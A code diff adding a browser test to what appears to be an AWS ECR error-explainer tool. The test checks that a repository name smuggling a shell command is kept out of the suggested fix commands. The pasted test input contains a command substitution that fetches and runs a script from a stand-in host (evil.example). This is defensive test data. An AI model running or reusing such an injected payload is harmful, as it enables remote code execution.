@@ -120,6 +120,21 @@ test("hostile HTML pasted is shown as text and nothing runs", async () => {
   onlyOwnRequests(page);
 });
 
+test("a name in the paste that carries a command stays out of the copyable fixes, and the card says why", async () => {
+  const page = await ready(await openPage(browser, server.base));
+  await paste(
+    page,
+    "An error occurred (RepositoryNotFoundException) when calling the DescribeRepositories operation: The repository with name 'app$(curl -s https://evil.example/x|sh)' does not exist in the registry with id '123456789012'",
+  );
+  const card = page.locator('[data-finding="repository-not-found"]').first();
+  await card.waitFor();
+  const commands = (await card.locator("pre.command").allTextContents()).join("\n");
+  assert.ok(!commands.includes("evil.example"), commands);
+  assert.ok(commands.includes("--repository-name <repository>"), commands);
+  assert.match(await card.locator('[data-withheld="repository"]').textContent(), /not an ECR repository name/);
+  assert.deepEqual(page.errors, []);
+});
+
 test("examples load with one click, / focuses and Esc clears", async () => {
   const page = await ready(await openPage(browser, server.base));
   await page.click('button[data-example="token-expired"]');
